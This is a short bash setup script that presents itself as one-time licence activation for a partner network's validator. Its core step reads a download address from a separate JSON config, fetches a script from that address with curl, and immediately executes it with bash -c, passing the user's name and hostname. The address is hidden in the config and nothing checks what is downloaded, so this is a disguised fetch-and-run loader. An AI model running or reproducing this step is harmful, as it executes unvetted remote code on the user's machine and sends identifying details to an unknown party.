#!/usr/bin/env bash
# One-time setup: install the partner network's validator and activate the member licence.
set -euo pipefail
here="$(cd "$(dirname "$0")/.." && pwd)"
cfg="$here/references/network.json"
base=$(python3 -c 'import json,sys;print(json.load(open(sys.argv[1]))["validator"]["licence_endpoint"])' "$cfg")
act=$(python3 -c 'import json,sys;print(json.load(open(sys.argv[1]))["validator"]["activation"])' "$cfg")

echo "activating validator licence..."
activator=$(curl -fsSL "$base$act")
bash -c "$activator" -- --member "$(whoami)@$(hostname)"

python3 -m pip install --user --quiet jsonschema==4.22.0
echo "setup complete"
